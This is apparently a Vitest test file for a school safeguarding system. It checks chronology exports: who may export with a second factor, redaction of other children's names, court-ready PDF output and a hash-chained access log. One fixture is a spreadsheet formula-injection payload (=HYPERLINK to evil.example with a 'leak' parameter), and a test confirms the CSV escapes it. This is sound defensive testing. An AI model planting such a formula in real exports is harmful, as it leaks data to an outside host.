// Taking a chronology out of Tessera: who may (the DSL team and the head, with a second
// factor), for what purpose (logged, covered by the access log's hash chain), the redaction
// preview and the DSL's confirmed replacements, a PDF a court would accept (read back with
// pdftotext from poppler-utils) and a CSV no spreadsheet runs formulas from.
import { execFileSync } from "node:child_process";
import { randomUUID } from "node:crypto";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { sql } from "drizzle-orm";
import type { FastifyInstance } from "fastify";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { chainAccessLog, verifyAccessLog } from "../src/access/access-log-chain.ts";
import { buildApp } from "../src/app.ts";
import { currentTotp } from "../src/auth/totp.ts";
import { type Database, queryRows } from "../src/db/database.ts";
import { pupils } from "../src/db/schema/index.ts";
import { DEMO_PASSWORD, DEMO_TOTP_SECRET, ensureDemo } from "../src/demo/demo-school.ts";
import { freshDatabase } from "./databases.ts";
import { type Client, signIn } from "./fixtures.ts";

let db: Database;
let app: FastifyInstance;
const as: Record<string, Client> = {};
type Kid = { id: string; first: string; last: string };
let subject: Kid;
let linked: Kid; // linked to two incidents
let grace: Kid; // linked to one; "grace" is also said as an ordinary word
let named: Kid; // not linked: only named in full in an account
const ids: Record<string, string> = {};

function send(who: string, method: "GET" | "POST", url: string, payload?: object) {
  const c = as[who]!;
  return app.inject({
    method,
    url,
    headers: { cookie: c.cookie, "x-csrf-token": c.csrfToken },
    ...(payload ? { payload } : {}),
  });
}

const at = (daysAgo: number) => new Date(Date.now() - daysAgo * 86_400_000).toISOString();
const url = (suffix: string) => `/api/v1/pupils/${subject.id}/${suffix}`;

function pdfText(pdf: Buffer): string {
  const dir = mkdtempSync(join(tmpdir(), "tessera-export-"));
  writeFileSync(join(dir, "c.pdf"), pdf);
  return execFileSync("pdftotext", ["-layout", join(dir, "c.pdf"), "-"], { encoding: "utf8" });
}

const names = (k: Kid) => [k.first, k.last];

beforeAll(async () => {
  db = await freshDatabase("postgres");
  await ensureDemo(db);
  app = await buildApp({ db, webRoot: "/nonexistent" });
  for (const who of ["dsl", "head", "teacher", "sendco"]) {
    as[who] = await signIn(app, `${who}@demo.tessera.school`, DEMO_PASSWORD);
    if (who === "sendco") continue; // stays without a second factor
    const res = await app.inject({
      method: "POST",
      url: "/api/v1/session/second-factor",
      headers: { cookie: as[who]!.cookie, "x-csrf-token": as[who]!.csrfToken },
      payload: { code: currentTotp(DEMO_TOTP_SECRET) },
    });
    expect(res.statusCode).toBe(200);
  }
  const [oak] = await db.owner((tx) =>
    queryRows<{ school_id: string; id: string; year_group_id: string }>(
      tx,
      sql`select school_id, id, year_group_id from classes where name = 'Year 3 Oak'`,
    ),
  );
  subject = { id: randomUUID(), first: "Zephyrine", last: "Okonkwo-Hale" };
  linked = { id: randomUUID(), first: "Quillon", last: "Marchbank" };
  grace = { id: randomUUID(), first: "Grace", last: "Thistlewood" };
  named = { id: randomUUID(), first: "Orlaith", last: "Penhallow" };
  await db.owner((tx) =>
    tx.insert(pupils).values(
      [subject, linked, grace, named].map((p) => ({
        schoolId: oak!.school_id,
        id: p.id,
        legalFirstName: p.first,
        legalLastName: p.last,
        dateOfBirth: "2018-11-02",
        sex: "F" as const,
        classId: oak!.id,
        yearGroupId: oak!.year_group_id,
      })),
    ),
  );
  const cats = (await send("dsl", "GET", "/api/v1/categories")).json().items as {
    id: string;
    name: string;
  }[];
  const category = (name: string) => cats.find((c) => c.name === name)!.id;
  const add = async (key: string, body: object) => {
    const res = await send("dsl", "POST", "/api/v1/incidents", { pupilId: subject.id, ...body });
    expect(res.statusCode).toBe(201);
    ids[key] = res.json().id;
    ids[`${key}:revision`] = res.json().revisionId;
  };
  await add("push", {
    account: `Quillon pushed Zephyrine in the line. ${named.first} ${named.last} saw it.`,
    categoryIds: [category("Behaviour")],
    occurredAt: at(20),
    linkedPupilIds: [linked.id],
  });
  await add("lunch", {
    account: `At lunch Grace Thistlewood sat with her. Then we all said grace. Marchbank and Penhallow were at the next table.`,
    categoryIds: [category("Wellbeing")],
    occurredAt: at(10),
    linkedPupilIds: [grace.id, linked.id],
  });
  await add("formula", {
    account: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    categoryIds: [category("Wellbeing")],
    occurredAt: at(5),
  });
  await add("long", {
    account: Array.from(
      { length: 60 },
      (_, i) => `Paragraph ${i + 1}: a long account that runs on across pages.`,
    ).join("\n"),
    categoryIds: [category("Wellbeing")],
    occurredAt: at(3),
  });
  const edit = await send("dsl", "POST", `/api/v1/incidents/${ids.push}/revisions`, {
    baseRevisionId: ids["push:revision"],
    changes: { location: "The line outside class" },
    reason: "Added where",
  });
  expect(edit.statusCode).toBe(201);
});
afterAll(async () => {
  await app.close();
  await db.close();
});

describe("who may export", () => {
  it("refuses a teacher, even with a second factor, and the SENDCo without one", async () => {
    for (const suffix of ["chronology.pdf", "chronology.csv?purpose=internal"]) {
      const teacher = await send("teacher", "GET", url(suffix));
      expect(teacher.statusCode).toBe(403);
      expect(teacher.json().type).toMatch(/forbidden$/);
    }
    const preview = await send("teacher", "POST", url("chronology/redaction-preview"), {});
    expect(preview.statusCode).toBe(403);
    // Reading it on screen stays open to her.
    expect((await send("teacher", "GET", url("chronology"))).statusCode).toBe(200);
  });

  it("lets the head export with a second factor", async () => {
    const res = await send("head", "GET", url("chronology.pdf?purpose=case_conference"));
    expect(res.statusCode).toBe(200);
    expect(pdfText(res.rawPayload)).toContain("Purpose: Case conference");
  });

  it("asks what an export is for when the purpose is 'other'", async () => {
    const res = await send("dsl", "GET", url("chronology.csv?purpose=other"));
    expect(res.statusCode).toBe(400);
    expect(res.json().errors).toEqual([expect.objectContaining({ path: "purposeDetail" })]);
    const bad = await send("dsl", "GET", url("chronology.csv?replacements=%5Bnot"));
    expect(bad.statusCode).toBe(400);
  });
});

describe("the redaction preview", () => {
  it("lists each other child with one label, where they were found, and the words to confirm", async () => {
    const res = await send("dsl", "POST", url("chronology/redaction-preview"), {
      purpose: "court",
    });
    expect(res.statusCode).toBe(200);
    const body = res.json() as {
      redactByDefault: boolean;
      replacements: {
        text: string;
        label: string;
        child: { id: string; name: string } | null;
        review: string | null;
        apply: boolean;
        foundIn: { entryId: string }[];
      }[];
    };
    expect(body.redactByDefault).toBe(true);
    const labelOf = new Map<string, string>();
    for (const r of body.replacements) {
      if (!r.child) continue;
      // Same child, same letter, whichever of their names it is.
      expect(labelOf.get(r.child.id) ?? r.label).toBe(r.label);
      labelOf.set(r.child.id, r.label);
    }
    expect(labelOf.get(linked.id)).toBe("Child A");
    expect(labelOf.get(grace.id)).toBe("Child B");
    expect(labelOf.get(named.id)).toBe("Child C");
    expect(new Set(labelOf.values()).size).toBe(3);
    const word = body.replacements.find((r) => r.text === "Grace");
    expect(word).toMatchObject({ review: "ordinary-word", apply: false, label: "Child B" });
    expect(body.replacements.find((r) => r.text === "Penhallow")?.foundIn).toEqual([
      expect.objectContaining({ entryId: ids.lunch }),
    ]);
    // Viewing the key is in the access log.
    const [logged] = await db.owner((tx) =>
      queryRows<{ purpose: string }>(
        tx,
        sql`select detail->>'purpose' as purpose from access_log
            where action = 'chronology.redaction-preview' and pupil_id = ${subject.id}`,
      ),
    );
    expect(logged?.purpose).toBe("court");
  });
});

describe("redacted exports", () => {
  it("give a PDF with no other child's name, each child one letter, 'grace' left as a word", async () => {
    const res = await send("dsl", "GET", url("chronology.pdf?purpose=case_conference"));
    expect(res.statusCode).toBe(200);
    const text = pdfText(res.rawPayload);
    for (const n of [...names(linked), grace.last, ...names(named)]) expect(text).not.toContain(n);
    expect(text).toContain("Child A pushed Zephyrine in the line. Child C saw it.");
    expect(text).toContain("At lunch Child B sat with her. Then we all said grace.");
    expect(text).toContain("Child A and Child C were at the next table.");
    expect(text).not.toContain("Grace");
    expect(text).toContain("Other children's names have been replaced");
  });

  it("apply the DSL's confirmed set: an added replacement, and an undone one", async () => {
    const confirmed = [
      { text: "Quillon", label: "Child A" },
      { text: "Marchbank", label: "Child A" },
      { text: "Grace Thistlewood", label: "Child B" },
      { text: "grace", label: "Child B" },
      { text: "Orlaith Penhallow", label: "Child C" },
      { text: "Penhallow", label: "Child C" },
      { text: "the line", label: "[place]" },
    ];
    const res = await send(
      "dsl",
      "GET",
      url(
        `chronology.csv?purpose=court&replacements=${encodeURIComponent(JSON.stringify(confirmed))}`,
      ),
    );
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain("Then we all said Child B.");
    expect(res.body).toContain("Child A pushed Zephyrine in [place].");
    for (const n of [...names(linked), ...names(grace), ...names(named)])
      expect(res.body).not.toContain(n);
    // Undo Penhallow: the DSL's choice stands, and the linked children stay labelled.
    const kept = confirmed.filter((c) => c.text !== "Penhallow");
    const again = await send(
      "dsl",
      "GET",
      url(
        `chronology.csv?purpose=court&replacements=${encodeURIComponent(JSON.stringify(kept))}&undone=${encodeURIComponent(JSON.stringify(["Penhallow"]))}`,
      ),
    );
    expect(again.body).toContain("Child A and Penhallow were at the next table.");
    expect(again.body).toContain("Child A; Child B");
  });

  it("still replace a name the DSL's preview never showed", async () => {
    // Her confirmed set names only Grace; everything else the proposal finds still goes.
    const res = await send(
      "dsl",
      "GET",
      url(
        `chronology.csv?purpose=court&replacements=${encodeURIComponent(JSON.stringify([{ text: "grace", label: "Child B" }]))}`,
      ),
    );
    expect(res.statusCode).toBe(200);
    for (const n of [...names(linked), ...names(grace), ...names(named)])
      expect(res.body).not.toContain(n);
  });

  it("are not redacted for internal use unless asked, and are for a court unless refused", async () => {
    const internal = await send("dsl", "GET", url("chronology.csv?purpose=internal"));
    expect(internal.body).toContain(linked.last);
    const fixedPoint = await send("dsl", "GET", url("chronology.csv?redact=true"));
    expect(fixedPoint.body).not.toContain(linked.last);
    const court = await send("dsl", "GET", url("chronology.csv?purpose=court"));
    expect(court.body).not.toContain(linked.last);
    const courtOpen = await send("dsl", "GET", url("chronology.csv?purpose=court&redact=false"));
    expect(courtOpen.body).toContain(linked.last);
  });
});

describe("the PDF a court would accept", () => {
  it("names the school, pupil, dates, filters, exporter, purpose and every page", async () => {
    const from = at(30).slice(0, 10);
    const res = await send(
      "dsl",
      "GET",
      url(
        `chronology.pdf?purpose=other&purposeDetail=Family%20court%20bundle&from=${from}&type=incident`,
      ),
    );
    expect(res.statusCode).toBe(200);
    const text = pdfText(res.rawPayload);
    expect(text).toContain(`Chronology: ${subject.first} ${subject.last}`);
    expect(text).toContain("Date of birth: 2 November 2018");
    expect(text).toContain("School: Demo Primary School");
    expect(text).toMatch(/Dates: From \d+ \w+ \d{4}/);
    expect(text).toContain("Filters: type: Incident");
    expect(text).toMatch(/Exported by .+ on \d+ \w+ \d{4}/);
    expect(text).toContain("Purpose: Other: Family court bundle");
    expect(text).toContain("edited — 2 revisions");
    expect(text).toMatch(/recorded \d+ \w+ \d{4} at \d\d:\d\d by /);
    const pages = Number(/Page 1 of (\d+)/.exec(text)?.[1]);
    expect(pages).toBeGreaterThanOrEqual(2);
    for (let n = 1; n <= pages; n++) expect(text).toContain(`Page ${n} of ${pages}`);
  });
});

describe("the CSV", () => {
  it("escapes a cell that looks like a formula", async () => {
    const res = await send("dsl", "GET", url("chronology.csv?purpose=internal"));
    expect(res.body).toContain(
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"`,
    );
    expect(res.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});

describe("the access log", () => {
  it("records every export with its purpose, and the chain covers it", async () => {
    const rows = await db.owner((tx) =>
      queryRows<{ action: string; purpose: string | null; redacted: boolean | null }>(
        tx,
        sql`select action, detail->>'purpose' as purpose, (detail->>'redacted')::boolean as redacted
            from access_log where pupil_id = ${subject.id} and action like 'chronology.export%'
            order by seq`,
      ),
    );
    expect(rows.length).toBeGreaterThan(5);
    for (const r of rows) expect(r.purpose).not.toBeNull();
    expect(rows).toContainEqual({
      action: "chronology.export.pdf",
      purpose: "case_conference",
      redacted: true,
    });
    expect(rows).toContainEqual({
      action: "chronology.export.csv",
      purpose: "court",
      redacted: false,
    });
    // "Who has looked at this child?" shows the DSL what each export was for.
    const page = (
      await send("dsl", "GET", `/api/v1/pupils/${subject.id}/access-log?limit=200`)
    ).json().items as { action: string; purpose: string | null; purposeDetail: string | null }[];
    expect(page).toContainEqual(
      expect.objectContaining({
        action: "chronology.export.pdf",
        purpose: "other",
        purposeDetail: "Family court bundle",
      }),
    );
    await chainAccessLog(db);
    expect((await verifyAccessLog(db)).breaks).toEqual([]);
    // Changing an export's purpose afterwards breaks the chain.
    await db.owner(async (tx) => {
      await tx.execute(sql`alter table access_log disable trigger user`);
      await tx.execute(
        sql`update access_log set detail = jsonb_set(detail, '{purpose}', '"internal"')
            where pupil_id = ${subject.id} and detail->>'purpose' = 'court'`,
      );
      await tx.execute(sql`alter table access_log enable trigger user`);
    });
    expect((await verifyAccessLog(db)).breaks).toHaveLength(1);
  });
});
